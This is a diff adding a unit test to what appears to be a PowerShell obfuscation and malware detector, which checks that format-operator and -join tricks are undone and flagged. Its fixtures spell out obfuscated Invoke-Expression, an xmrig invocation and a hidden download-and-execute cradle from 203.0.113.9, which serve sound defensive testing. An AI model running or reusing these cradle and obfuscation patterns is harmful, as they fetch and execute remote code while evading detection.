@@ -143,3 +143,27 @@ test('PowerShell escapes and a single string join are ordinary code, not obfusca
   assert.deepEqual(signalsOf(powershell, win('powershell -Command "Write-Host \\"Done`n\\"; $a = \'x\' + \'y\'"')), []);
   assert.deepEqual(normaliseCommand("Write-Host ('Hello ' + 'world')").techniques, []);
 });
+
+test('the format operator and string-array -join are undone, each named, and what they hid is read', () => {
+  assert.deepEqual(normaliseCommand(`("{2}{0}{1}" -f 'ke-Ex', 'pression' ,'Invo') $s`), {
+    text: "'Invoke-Expression' $s",
+    techniques: ['format operator'],
+  });
+  assert.deepEqual(normaliseCommand("& (( 'I', 'EX' ) -join '') (iwr http://x/y)"), {
+    text: "& ('IEX') (iwr http://x/y)",
+    techniques: ['string array join'],
+  });
+  assert.equal(normaliseCommand("& (-join ('xm','rig')) -o x").text, "& ('xmrig') -o x");
+  // a format naming a piece that is not there, or with nothing to fill, is left as written
+  assert.equal(normaliseCommand(`("{3}" -f 'a') x`).text, `("{3}" -f 'a') x`);
+  assert.deepEqual(normaliseCommand(`Write-Host ("{0:N2}" -f 3.14)`).techniques, []);
+  // the cradle behind a format-operator IEX is found
+  const kinds = signalsOf(
+    powershell,
+    win(
+      `powershell -w hidden -c & ("{1}{0}" -f 'ex','i') (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')`,
+    ),
+  ).map((s) => s.kind);
+  assert.ok(kinds.includes('dropper'), kinds.join(', '));
+  assert.ok(kinds.includes('obfuscation'), kinds.join(', '));
+});
